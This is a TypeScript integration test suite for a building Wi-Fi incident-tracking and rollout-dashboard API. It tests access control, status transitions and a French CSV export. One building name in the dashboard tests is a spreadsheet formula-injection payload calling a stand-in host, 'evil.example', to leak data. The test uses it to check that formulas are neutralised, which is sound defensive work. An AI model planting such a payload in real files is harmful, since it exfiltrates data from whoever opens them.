import { parse } from 'csv-parse/sync';
import { sql, type SQL } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  incidentCategories,
  incidentStatuses,
  incidentTransitions,
  type IncidentCategory,
  type IncidentStatus,
  workingDaysToFix,
} from '../src/connectivity/incidents.rules.ts';
import { dueDate, parisDate } from '../src/connectivity/working-days.ts';
import { nextStatuses } from '../src/status-machine.ts';
import type { Harness } from './helpers/harness.ts';
import { expectStatus } from './helpers/wifi.ts';
import { startWorld, type Account, type World } from './helpers/world.ts';

let harness: Harness;
let world: World;
/** The landlord whose building the incidents are on, its installer, and people who must not see it. */
let landlord: Awaited<ReturnType<World['landlord']>>;
let otherLandlord: Awaited<ReturnType<World['landlord']>>;
let isp: Awaited<ReturnType<World['isp']>>;
let otherIsp: Awaited<ReturnType<World['isp']>>;
let mediator: Account;
let building: { id: string; name: string };
let apartmentId: string;
let accessPointId: string;
/** Another building of the same landlord, and one of another landlord, each with an apartment and an access point. */
let sibling: { apartmentId: string; accessPointId: string };
let foreign: { buildingId: string; apartmentId: string; accessPointId: string };

const ok = expectStatus;

async function countOf(query: SQL) {
  const [row] = await harness.database.db.execute<{ count: number }>(query);
  return row!.count;
}

const incidentCount = () => countOf(sql`select count(*)::int as count from incidents`);
const eventCount = () => countOf(sql`select count(*)::int as count from incident_events`);

/** What a refused change must leave alone: the incident's row and its history. */
async function snapshot(incidentId: string) {
  const [row] = await harness.database.db.execute(sql`select status, version, resolution, resolved_at, updated_at from incidents where id = ${incidentId}`);
  const events = await harness.database.db.execute(
    sql`select id, from_status, to_status, actor_user_id, note from incident_events where incident_id = ${incidentId} order by id`,
  );
  return { row, events: [...events] };
}

async function eventsOf(incidentId: string) {
  const rows = await harness.database.db.execute<{ from_status: string | null; to_status: string; actor_user_id: string; note: string | null }>(
    sql`select from_status, to_status, actor_user_id, note from incident_events where incident_id = ${incidentId} order by id`,
  );
  return [...rows];
}

/** The test's time machine, and its only direct write: moves an incident's due date. */
async function setDueOn(incidentId: string, date: string) {
  await harness.database.db.execute(sql`update incidents set due_on = ${date} where id = ${incidentId}`);
}

const daysBefore = (date: string, days: number) => new Date(Date.parse(`${date}T00:00:00Z`) - days * 86_400_000).toISOString().slice(0, 10);

async function apartmentsOf(token: string, buildingId: string): Promise<{ id: string; unit: string }[]> {
  return ok(await world.call('GET', `/api/buildings/${buildingId}/apartments`, { token })).items;
}

async function accessPoint(token: string, buildingId: string, floor = 0): Promise<string> {
  return ok(
    await world.call('POST', `/api/buildings/${buildingId}/network-devices`, { token, body: { kind: 'access_point', model: 'TP-Link EAP245', floor } }),
    201,
  ).id;
}

const openIncident = (token: string, body: Record<string, unknown>) =>
  world.call('POST', '/api/incidents', { token, body: { category: 'no_signal', description: 'Plus de Wi-Fi au 2e étage depuis ce matin.', ...body } });

const move = (token: string, incidentId: string, to: IncidentStatus, note?: string) =>
  world.call('POST', `/api/incidents/${incidentId}/status`, { token, body: { to, ...(note === undefined ? {} : { note }) } });

const resolutionNote = 'Point d’accès du palier redémarré, câble PoE remplacé.';

/** Where the transition table lets an incident go from a status. */
const nextFrom = (status: IncidentStatus) => nextStatuses(incidentTransitions, { status });

/** The shortest way from open to each status, read from the transition table. */
function pathTo(target: IncidentStatus): IncidentStatus[] {
  const queue: IncidentStatus[][] = [[]];
  while (queue.length > 0) {
    const path = queue.shift()!;
    const at = path.at(-1) ?? 'open';
    if (at === target) return path;
    for (const next of nextFrom(at)) if (!path.includes(next) && next !== 'open') queue.push([...path, next]);
  }
  throw new Error(`The transition table gives no way from open to ${target}`);
}

/** An incident on `buildingId` opened by `token`, then moved along the table to `status`. */
async function incidentIn(status: IncidentStatus, token = landlord.manager.token, buildingId = building.id, category: IncidentCategory = 'no_signal') {
  const incident = ok(await openIncident(token, { buildingId, category }), 201);
  for (const step of pathTo(status)) ok(await move(token, incident.id, step, step === 'resolved' ? resolutionNote : undefined));
  return incident as { id: string; dueOn: string; createdAt: string };
}

beforeAll(async () => {
  ({ harness, world } = await startWorld());
  [landlord, otherLandlord, isp, otherIsp] = await Promise.all([world.landlord(), world.landlord(), world.isp(), world.isp()]);
  mediator = await world.account((await world.organisation('mediation')).id, 'mediator');

  const token = landlord.manager.token;
  building = await world.building(token, landlord.residence.id, {
    apartments: [
      { unit: '001', floor: 0 },
      { unit: '101', floor: 1 },
    ],
  });
  ok(await world.call('PATCH', `/api/buildings/${building.id}/deployment`, { token, body: { ispOrganisationId: isp.organisation.id } }));
  apartmentId = (await apartmentsOf(token, building.id))[0]!.id;
  accessPointId = await accessPoint(isp.installer.token, building.id);

  const second = await world.building(token, landlord.residence.id, { apartments: [{ unit: '001', floor: 0 }] });
  sibling = { apartmentId: (await apartmentsOf(token, second.id))[0]!.id, accessPointId: await accessPoint(token, second.id) };

  const elsewhere = await world.building(otherLandlord.manager.token, otherLandlord.residence.id, { apartments: [{ unit: 'A1', floor: 0 }] });
  foreign = {
    buildingId: elsewhere.id,
    apartmentId: (await apartmentsOf(otherLandlord.manager.token, elsewhere.id))[0]!.id,
    accessPointId: await accessPoint(otherLandlord.manager.token, elsewhere.id),
  };
});
afterAll(async () => harness?.close());

/** People with no business on the landlord's building: they do not see it at all. */
const strangers = [
  { who: 'another landlord’s manager', account: () => otherLandlord.manager },
  { who: 'a mediator', account: () => mediator },
  { who: 'an installer of a provider not assigned to the building', account: () => otherIsp.installer },
];

describe('opening an incident', () => {
  const openers = [
    { who: 'the landlord’s manager', account: () => landlord.manager },
    { who: 'the installer assigned to the building', account: () => isp.installer },
    { who: 'the coordinator', account: () => world.admin },
  ];
  const targets = [
    { what: 'the building itself', fields: () => ({}) },
    { what: 'one of its apartments', fields: () => ({ apartmentId }) },
    { what: 'one of its access points', fields: () => ({ networkDeviceId: accessPointId }) },
  ];

  for (const opener of openers) {
    for (const target of targets) {
      it(`lets ${opener.who} report a fault on ${target.what}, recorded as open by them`, async () => {
        const account = opener.account();
        const fields: { apartmentId?: string; networkDeviceId?: string } = target.fields();
        const incident = ok(await openIncident(account.token, { buildingId: building.id, category: 'ap_down', ...fields }), 201);
        expect(incident).toMatchObject({
          buildingId: building.id,
          organisationId: landlord.organisation.id,
          apartmentId: fields.apartmentId ?? null,
          networkDeviceId: fields.networkDeviceId ?? null,
          category: 'ap_down',
          status: 'open',
          resolution: null,
          resolvedAt: null,
          openedByUserId: account.id,
          version: 1,
        });
        const [row] = await harness.database.db.execute(
          sql`select building_id, apartment_id, network_device_id, opened_by_user_id, status from incidents where id = ${incident.id}`,
        );
        expect(row).toEqual({
          building_id: building.id,
          apartment_id: fields.apartmentId ?? null,
          network_device_id: fields.networkDeviceId ?? null,
          opened_by_user_id: account.id,
          status: 'open',
        });
        expect(await eventsOf(incident.id)).toEqual([{ from_status: null, to_status: 'open', actor_user_id: account.id, note: null }]);
        const seen = ok(await world.call('GET', `/api/incidents/${incident.id}`, { token: landlord.manager.token }));
        expect(seen.events).toMatchObject([{ fromStatus: null, toStatus: 'open', actorUserId: account.id }]);
      });
    }
  }

  const misplaced = [
    { what: 'an apartment of another building of the same landlord', field: 'apartmentId', id: () => sibling.apartmentId },
    { what: 'an apartment of another landlord’s building', field: 'apartmentId', id: () => foreign.apartmentId },
    { what: 'an access point of another building of the same landlord', field: 'networkDeviceId', id: () => sibling.accessPointId },
    { what: 'an access point of another landlord’s building', field: 'networkDeviceId', id: () => foreign.accessPointId },
  ];
  for (const { what, field, id } of misplaced)
    it(`refuses ${what}, naming ${field}, and records nothing`, async () => {
      const [incidentsBefore, eventsBefore] = [await incidentCount(), await eventCount()];
      const refused = await openIncident(landlord.manager.token, { buildingId: building.id, [field]: id() });
      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
      expect(refused.body).toMatchObject({ code: 'validation_failed', errors: [{ path: field }] });
      expect(refused.body.errors).toHaveLength(1);
      expect([await incidentCount(), await eventCount()]).toEqual([incidentsBefore, eventsBefore]);
    });

  it('names both the apartment and the access point when neither belongs to the building', async () => {
    const before = await incidentCount();
    const refused = await openIncident(isp.installer.token, {
      buildingId: building.id,
      apartmentId: sibling.apartmentId,
      networkDeviceId: foreign.accessPointId,
    });
    expect(refused.status).toBe(422);
    expect(refused.body.errors.map((error: { path: string }) => error.path).sort()).toEqual(['apartmentId', 'networkDeviceId']);
    expect(await incidentCount()).toBe(before);
  });

  for (const { who, account } of strangers)
    it(`refuses ${who} on a building they do not see, naming buildingId, and records nothing`, async () => {
      const [incidentsBefore, eventsBefore] = [await incidentCount(), await eventCount()];
      const refused = await openIncident(account().token, { buildingId: building.id });
      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
      expect(refused.body).toMatchObject({ code: 'validation_failed', errors: [{ path: 'buildingId' }] });
      // The refusal does not tell a stranger that the building exists.
      const unknown = await openIncident(account().token, { buildingId: '00000000-0000-4000-8000-000000000000' });
      expect(unknown.status).toBe(422);
      expect(unknown.body.errors).toEqual(refused.body.errors);
      expect([await incidentCount(), await eventCount()]).toEqual([incidentsBefore, eventsBefore]);
    });
});

describe('due dates, from the time to fix of each category', () => {
  for (const category of incidentCategories) {
    const days = workingDaysToFix[category];
    it(`gives an incident of category ${category} until ${days} working day${days > 1 ? 's' : ''} after the day it was reported`, async () => {
      const incident = ok(await openIncident(landlord.manager.token, { buildingId: building.id, category }), 201);
      const expected = dueDate(new Date(incident.createdAt), days);
      expect(incident.dueOn).toBe(expected);
      expect(incident.dueOn > parisDate(new Date(incident.createdAt))).toBe(true);
      const [row] = await harness.database.db.execute<{ due_on: string }>(sql`select due_on::text as due_on from incidents where id = ${incident.id}`);
      expect(row!.due_on).toBe(expected);
    });
  }
});

describe('moving an incident along', () => {
  const pairs = incidentStatuses.flatMap((from) => incidentStatuses.map((to) => ({ from, to, allowed: nextFrom(from).includes(to) })));

  for (const { from, to } of pairs.filter((pair) => pair.allowed))
    it(`moves an incident from ${from} to ${to}, and records who did it`, async () => {
      const incident = await incidentIn(from);
      const before = ok(await world.call('GET', `/api/incidents/${incident.id}`, { token: landlord.manager.token }));
      const note = to === 'resolved' ? resolutionNote : undefined;
      const moved = ok(await move(isp.installer.token, incident.id, to, note));
      expect(moved).toMatchObject({ id: incident.id, status: to, version: before.version + 1 });
      if (to === 'resolved') expect(moved).toMatchObject({ resolution: resolutionNote, resolvedAt: expect.any(String) });
      const events = await eventsOf(incident.id);
      expect(events).toHaveLength(before.events.length + 1);
      expect(events.at(-1)).toEqual({ from_status: from, to_status: to, actor_user_id: isp.installer.id, note: note ?? null });
    });

  for (const { from, to } of pairs.filter((pair) => !pair.allowed))
    it(`refuses to move an incident from ${from} to ${to}, says where it can go, and changes nothing`, async () => {
      const incident = await incidentIn(from);
      const before = await snapshot(incident.id);
      const refused = await move(isp.installer.token, incident.id, to, to === 'resolved' ? resolutionNote : undefined);
      expect(refused.status, JSON.stringify(refused.body)).toBe(409);
      expect(refused.body).toMatchObject({ code: 'transition_not_allowed', status: 409, currentStatus: from, allowedNextStatuses: nextFrom(from) });
      expect(refused.body.detail).toContain(from);
      expect(await snapshot(incident.id)).toEqual(before);
    });

  const resolvable = incidentStatuses.filter((status) => nextFrom(status).includes('resolved'));
  const missingNotes = resolvable.flatMap((from) => [
    { from, how: 'no note', note: undefined },
    { from, how: 'a blank note', note: '   ' },
  ]);
  for (const { from, how, note } of missingNotes)
    it(`refuses to resolve an incident that is ${from} with ${how}, naming note, and changes nothing`, async () => {
      const incident = await incidentIn(from);
      const before = await snapshot(incident.id);
      const refused = await move(landlord.manager.token, incident.id, 'resolved', note);
      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
      expect(refused.body.errors).toMatchObject([{ path: 'note' }]);
      expect(await snapshot(incident.id)).toEqual(before);
    });

  it('clears the resolution when a resolved incident is reopened, and takes a new one when resolved again', async () => {
    const incident = await incidentIn('resolved');
    const resolved = ok(await world.call('GET', `/api/incidents/${incident.id}`, { token: landlord.manager.token }));
    expect(resolved).toMatchObject({ status: 'resolved', resolution: resolutionNote, resolvedAt: expect.any(String) });
    const reopened = ok(await move(landlord.manager.token, incident.id, 'open'));
    expect(reopened).toMatchObject({ status: 'open', resolution: null, resolvedAt: null });
    const [row] = await harness.database.db.execute(sql`select status, resolution, resolved_at from incidents where id = ${incident.id}`);
    expect(row).toEqual({ status: 'open', resolution: null, resolved_at: null });
    const again = ok(await move(isp.installer.token, incident.id, 'resolved', 'Box remplacée par l’opérateur.'));
    expect(again).toMatchObject({ status: 'resolved', resolution: 'Box remplacée par l’opérateur.' });
    expect((await eventsOf(incident.id)).map((event) => event.to_status)).toEqual(['open', 'resolved', 'open', 'resolved']);
  });

  it('keeps the history: who moved the incident, to what, with what note, and when', async () => {
    const startedAt = Date.now();
    const incident = ok(await openIncident(landlord.manager.token, { buildingId: building.id, networkDeviceId: accessPointId, category: 'ap_down' }), 201);
    ok(await move(isp.installer.token, incident.id, 'in_progress'));
    ok(await move(isp.installer.token, incident.id, 'resolved', resolutionNote));
    ok(await move(world.admin.token, incident.id, 'closed'));
    const finishedAt = Date.now();
    const { events } = ok(await world.call('GET', `/api/incidents/${incident.id}`, { token: isp.installer.token }));
    expect(events).toMatchObject([
      { fromStatus: null, toStatus: 'open', actorUserId: landlord.manager.id, note: null },
      { fromStatus: 'open', toStatus: 'in_progress', actorUserId: isp.installer.id, note: null },
      { fromStatus: 'in_progress', toStatus: 'resolved', actorUserId: isp.installer.id, note: resolutionNote },
      { fromStatus: 'resolved', toStatus: 'closed', actorUserId: world.admin.id, note: null },
    ]);
    const times = events.map((event: { occurredAt: string }) => Date.parse(event.occurredAt));
    // Millisecond timestamps, rounded by Postgres: a little slack on either side.
    for (const time of times) {
      expect(time).toBeGreaterThanOrEqual(startedAt - 5);
      expect(time).toBeLessThanOrEqual(finishedAt + 5);
    }
    expect([...times].sort((a, b) => a - b)).toEqual(times);
  });

  it('lets one of two simultaneous changes win; the other gets 409 and only one event is added', async () => {
    for (let round = 0; round < 5; round++) {
      const incident = await incidentIn('open');
      const request = (token: string) =>
        world.app.request(`/api/incidents/${incident.id}/status`, {
          method: 'POST',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ to: 'in_progress' }),
        });
      const answers = await Promise.all([request(landlord.manager.token), request(isp.installer.token)]);
      expect(answers.map((answer) => answer.status).sort()).toEqual([200, 409]);
      const loser = (await answers.find((answer) => answer.status === 409)!.json()) as { code: string };
      // Depending on when it read the incident, the loser lost the compare-and-set or found it already in progress.
      expect(['concurrent_change', 'transition_not_allowed']).toContain(loser.code);
      const [row] = await harness.database.db.execute(sql`select status, version from incidents where id = ${incident.id}`);
      expect(row).toEqual({ status: 'in_progress', version: 2 });
      expect((await eventsOf(incident.id)).map((event) => event.to_status)).toEqual(['open', 'in_progress']);
    }
  });

  for (const { who, account } of strangers)
    it(`hides the incident from ${who}: they can neither read nor move it (404), and nothing changes`, async () => {
      const incident = await incidentIn('open');
      const before = await snapshot(incident.id);
      expect((await world.call('GET', `/api/incidents/${incident.id}`, { token: account().token })).status).toBe(404);
      const refused = await move(account().token, incident.id, 'in_progress');
      expect(refused.status, JSON.stringify(refused.body)).toBe(404);
      expect(await snapshot(incident.id)).toEqual(before);
    });
});

describe('overdue incidents', () => {
  let late: Awaited<ReturnType<World['landlord']>>;
  let lateBuilding: { id: string; name: string };
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    // A landlord of its own, so its manager's lists hold only these incidents.
    late = await world.landlord();
    lateBuilding = await world.building(late.manager.token, late.residence.id);
    const today = parisDate(new Date());
    // Made in an order other than their due dates, so the listing's order is its own.
    const cases: { name: string; status: IncidentStatus; dueOn?: string }[] = [
      { name: 'dueYesterdayInProgress', status: 'in_progress', dueOn: daysBefore(today, 1) },
      { name: 'dueTenDaysAgoOpen', status: 'open', dueOn: daysBefore(today, 10) },
      { name: 'dueTwentyDaysAgoResolved', status: 'resolved', dueOn: daysBefore(today, 20) },
      { name: 'dueThirtyDaysAgoClosed', status: 'closed', dueOn: daysBefore(today, 30) },
      { name: 'dueTodayOpen', status: 'open', dueOn: today },
      { name: 'notYetDueOpen', status: 'open' },
    ];
    for (const { name, status, dueOn } of cases) {
      const incident = await incidentIn(status, late.manager.token, lateBuilding.id, 'slow');
      if (dueOn) await setDueOn(incident.id, dueOn);
      ids[name] = incident.id;
    }
  });

  it('lists exactly the unresolved incidents past their due date, oldest due first, marked overdue', async () => {
    const { items } = ok(await world.call('GET', '/api/incidents?overdue=true', { token: late.manager.token }));
    expect(items.map((item: { id: string }) => item.id)).toEqual([ids.dueTenDaysAgoOpen, ids.dueYesterdayInProgress]);
    for (const item of items) expect(item).toMatchObject({ overdue: true, buildingId: lateBuilding.id, buildingName: lateBuilding.name });
  });

  it('marks in the full list only the unresolved incidents past due: the due date itself is still on time', async () => {
    const { items } = ok(await world.call('GET', '/api/incidents', { token: late.manager.token }));
    const overdueById = Object.fromEntries(items.map((item: { id: string; overdue: boolean }) => [item.id, item.overdue]));
    expect(overdueById).toEqual({
      [ids.dueYesterdayInProgress!]: true,
      [ids.dueTenDaysAgoOpen!]: true,
      [ids.dueTwentyDaysAgoResolved!]: false,
      [ids.dueThirtyDaysAgoClosed!]: false,
      [ids.dueTodayOpen!]: false,
      [ids.notYetDueOpen!]: false,
    });
  });

  it('lists them for the coordinator too', async () => {
    const { items } = ok(await world.call('GET', `/api/incidents?overdue=true&buildingId=${lateBuilding.id}`, { token: world.admin.token }));
    expect(items.map((item: { id: string }) => item.id)).toEqual([ids.dueTenDaysAgoOpen, ids.dueYesterdayInProgress]);
  });

  for (const { who, account } of strangers)
    it(`shows ${who} none of them`, async () => {
      const token = account().token;
      for (const path of ['/api/incidents?overdue=true', '/api/incidents?limit=500', `/api/incidents?buildingId=${lateBuilding.id}`]) {
        const { items } = ok(await world.call('GET', path, { token }));
        expect(
          items.filter((item: { id: string }) => Object.values(ids).includes(item.id)),
          path,
        ).toEqual([]);
      }
    });
});

describe('a landlord’s rollout dashboard', () => {
  let owner: Awaited<ReturnType<World['landlord']>>;
  let north: { id: string; name: string };
  let trap: { id: string; name: string };
  const formula = '=HYPERLINK("http://evil.example/?leak","Cliquez ici")';
  const csvHeader = [
    'résidence',
    'bâtiment',
    'adresse',
    'commune',
    'statut',
    'logements',
    'provisionnés',
    'adhérents',
    'adhésion (%)',
    'refus',
    'incidents ouverts',
    'incidents en retard',
    'coût mensuel par logement (€)',
    'total mensuel (€)',
    'récupération du coût',
  ];

  async function optIn(buildingId: string, choices: Record<string, 'in' | 'out'>) {
    for (const apartment of await apartmentsOf(owner.manager.token, buildingId)) {
      const choice = choices[apartment.unit];
      if (choice) ok(await world.call('PUT', `/api/apartments/${apartment.id}/opt-in`, { token: owner.manager.token, body: { optIn: choice } }));
    }
  }

  async function csvOf(token: string) {
    const response = await world.app.request(`/api/landlords/${owner.organisation.id}/rollout.csv`, { headers: { authorization: `Bearer ${token}` } });
    const bytes = new Uint8Array(await response.arrayBuffer());
    return { response, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
  }

  beforeAll(async () => {
    owner = await world.landlord();
    const token = owner.manager.token;
    // 3 apartments: 2 in, 1 out (66.7 %); 250 cents each, in the rent.
    north = await world.building(token, owner.residence.id, {
      name: 'Bât. Nord',
      apartments: ['001', '002', '101'].map((unit) => ({ unit, floor: Number(unit[0]) })),
    });
    // 6 apartments: 1 in, none out (16.7 %); 199 cents each, in the service charge.
    trap = await world.building(token, owner.residence.id, {
      name: formula,
      apartments: ['001', '002', '003', '101', '102', '103'].map((unit) => ({ unit, floor: Number(unit[0]) })),
    });
    await optIn(north.id, { '001': 'in', '002': 'in', '101': 'out' });
    await optIn(trap.id, { '102': 'in' });
    ok(await world.call('PATCH', `/api/buildings/${north.id}/deployment`, { token, body: { monthlyCostCents: 250, costRecovery: 'rent' } }));
    ok(await world.call('PATCH', `/api/buildings/${trap.id}/deployment`, { token, body: { monthlyCostCents: 199, costRecovery: 'service_charge' } }));

    // North: two waiting (one past due), one resolved past due (neither open nor overdue).
    const yesterday = daysBefore(parisDate(new Date()), 1);
    await incidentIn('open', token, north.id);
    await setDueOn((await incidentIn('in_progress', token, north.id)).id, yesterday);
    await setDueOn((await incidentIn('resolved', token, north.id)).id, yesterday);
    // The other: one in progress past due, one closed.
    await setDueOn((await incidentIn('in_progress', token, trap.id)).id, yesterday);
    await incidentIn('closed', token, trap.id);
  });

  it('shows per building the apartments, opt-in, incidents waiting and overdue, and the monthly charges', async () => {
    const rollout = ok(await world.call('GET', `/api/landlords/${owner.organisation.id}/rollout`, { token: owner.manager.token }));
    expect(rollout.landlord).toEqual({ id: owner.organisation.id, name: owner.organisation.name });
    expect(rollout.buildings).toHaveLength(2);
    const byId = Object.fromEntries(rollout.buildings.map((item: { buildingId: string }) => [item.buildingId, item]));
    expect(byId[north.id]).toMatchObject({
      residence: owner.residence.name,
      building: 'Bât. Nord',
      status: 'planned',
      apartments: 3,
      provisioned: 0,
      optedIn: 2,
      optedOut: 1,
      optedInPercent: 66.7,
      openIncidents: 2,
      overdueIncidents: 1,
      monthlyCostCents: 250,
      monthlyChargesTotalCents: 750,
      costRecovery: 'rent',
    });
    expect(byId[trap.id]).toMatchObject({
      building: formula,
      apartments: 6,
      optedIn: 1,
      optedOut: 0,
      optedInPercent: 16.7,
      openIncidents: 1,
      overdueIncidents: 1,
      monthlyCostCents: 199,
      monthlyChargesTotalCents: 1_194,
      costRecovery: 'service_charge',
    });
    expect(rollout.totals).toEqual({
      buildings: 2,
      byStatus: { planned: 2 },
      apartments: 9,
      provisioned: 0,
      optedIn: 3,
      optedInPercent: 33.3,
      openIncidents: 3,
      overdueIncidents: 2,
      monthlyChargesTotalCents: 1_944,
    });
  });

  it('shows the coordinator the same figures', async () => {
    const mine = ok(await world.call('GET', `/api/landlords/${owner.organisation.id}/rollout`, { token: owner.manager.token }));
    const theirs = ok(await world.call('GET', `/api/landlords/${owner.organisation.id}/rollout`, { token: world.admin.token }));
    expect(theirs.buildings).toEqual(mine.buildings);
    expect(theirs.totals).toEqual(mine.totals);
  });

  it('exports one row per building for a French spreadsheet: semicolons, BOM, French headers, decimal commas', async () => {
    const { response, bytes, text } = await csvOf(owner.manager.token);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="deploiement-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parse(text, { delimiter: ';', bom: true }) as string[][];
    expect(header).toEqual(csvHeader);
    expect(rows).toHaveLength(2);
    const records = parse(text, { delimiter: ';', bom: true, columns: true }) as Record<string, string>[];
    expect(records.find((record) => record['bâtiment'] === 'Bât. Nord')).toEqual({
      résidence: owner.residence.name,
      bâtiment: 'Bât. Nord',
      adresse: '12 avenue de la Viste, 13015 Marseille',
      commune: '13215',
      statut: 'Prévu',
      logements: '3',
      provisionnés: '0',
      adhérents: '2',
      'adhésion (%)': '66,7',
      refus: '1',
      'incidents ouverts': '2',
      'incidents en retard': '1',
      'coût mensuel par logement (€)': '2,50',
      'total mensuel (€)': '7,50',
      'récupération du coût': 'Inclus dans le loyer',
    });
    expect(records.find((record) => record['bâtiment'] !== 'Bât. Nord')).toMatchObject({
      logements: '6',
      'adhésion (%)': '16,7',
      'total mensuel (€)': '11,94',
    });
  });

  it('neutralises a building name that a spreadsheet would run as a formula', async () => {
    const { text } = await csvOf(owner.manager.token);
    const records = parse(text, { delimiter: ';', bom: true }) as string[][];
    const cells = records.flat();
    expect(cells).toContain(`'${formula}`);
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  const outsiders = [
    { who: 'another landlord’s manager', account: () => otherLandlord.manager },
    { who: 'a mediator', account: () => mediator },
    { who: 'an installer', account: () => isp.installer },
  ];
  for (const { who, account } of outsiders)
    it(`does not exist for ${who} (404), as JSON or CSV`, async () => {
      const token = account().token;
      const json = await world.call('GET', `/api/landlords/${owner.organisation.id}/rollout`, { token });
      expect(json.status, JSON.stringify(json.body)).toBe(404);
      expect(JSON.stringify(json.body)).not.toContain('Nord');
      const { response, text } = await csvOf(token);
      expect(response.status).toBe(404);
      expect(text).not.toContain('Nord');
    });

  it('shows a building with no apartments and no cost yet as 0 % and no charges, blank in the CSV', async () => {
    const empty = await world.landlord();
    await world.building(empty.manager.token, empty.residence.id, { name: 'Bât. Vide' });
    const rollout = ok(await world.call('GET', `/api/landlords/${empty.organisation.id}/rollout`, { token: empty.manager.token }));
    expect(rollout.buildings).toMatchObject([
      { building: 'Bât. Vide', apartments: 0, optedInPercent: 0, monthlyCostCents: null, monthlyChargesTotalCents: null, costRecovery: null },
    ]);
    expect(rollout.totals).toMatchObject({ apartments: 0, optedInPercent: 0, monthlyChargesTotalCents: 0 });
    const response = await world.app.request(`/api/landlords/${empty.organisation.id}/rollout.csv`, {
      headers: { authorization: `Bearer ${empty.manager.token}` },
    });
    const records = parse(await response.text(), { delimiter: ';', bom: true, columns: true }) as Record<string, string>[];
    expect(records).toMatchObject([
      { bâtiment: 'Bât. Vide', 'adhésion (%)': '0', 'coût mensuel par logement (€)': '', 'total mensuel (€)': '', 'récupération du coût': '' },
    ]);
  });
});
